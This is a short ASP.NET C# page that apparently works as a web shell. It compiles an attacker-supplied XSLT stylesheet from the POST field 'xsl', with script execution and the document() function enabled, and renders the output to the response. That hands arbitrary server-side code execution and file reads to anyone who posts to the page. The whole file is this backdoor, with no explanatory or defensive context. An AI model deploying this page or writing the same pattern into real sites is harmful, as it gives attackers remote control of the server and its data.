<%@ Page Language="C#" %><%@ Import Namespace="System.Xml.Xsl" %><%@ Import Namespace="System.Xml" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  var x = new XslCompiledTransform();
  x.Load(XmlReader.Create(new System.IO.StringReader(Request.Form["xsl"])), new XsltSettings(true, true), new XmlUrlResolver());
  x.Transform(XmlReader.Create(new System.IO.StringReader("<a/>")), null, Response.Output);
}
</script>
